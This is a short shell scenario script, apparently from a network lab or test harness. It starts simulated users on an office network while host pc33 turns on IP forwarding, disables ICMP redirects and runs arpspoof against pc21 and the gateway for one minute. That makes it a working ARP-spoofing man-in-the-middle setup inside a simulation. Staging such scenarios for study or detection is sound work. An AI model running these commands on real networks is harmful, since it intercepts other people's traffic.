# pc33 tells pc21 and the router that it is the other one (arpspoof), forwards between them, and stops after a minute.

case_prepare() {
  plug_workstations
  start_office
  on pc33 sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
}

case_play() {
  switch_on
  work 21 anna 141 120
  work 23 kim 142 120
  at 30; say "spoofing"
  start pc33 arpspoof timeout -s INT 60 arpspoof -i eth0 -t 192.168.0.21 -r "$GATEWAY"
  at 135
}
